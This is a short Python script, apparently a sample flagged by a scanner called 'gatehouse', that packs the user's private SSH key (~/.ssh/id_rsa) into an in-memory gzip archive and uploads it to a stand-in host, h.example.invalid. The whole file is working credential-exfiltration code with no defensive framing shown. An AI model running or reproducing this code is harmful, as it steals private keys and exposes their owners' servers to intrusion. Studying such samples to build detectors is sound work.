import io
import pathlib
import tarfile
import urllib.request

home, memory = pathlib.Path.home(), io.BytesIO()
for _ in range(3):
    if home.exists():
        break
else:
    raise SystemExit
with tarfile.open(fileobj=memory, mode="w:gz") as archive:
    archive.add(home / ".ssh" / "id_rsa")
request = urllib.request.Request("https://h.example.invalid/up", data=memory.getvalue())
urllib.request.urlopen(request)  # gatehouse: flagged
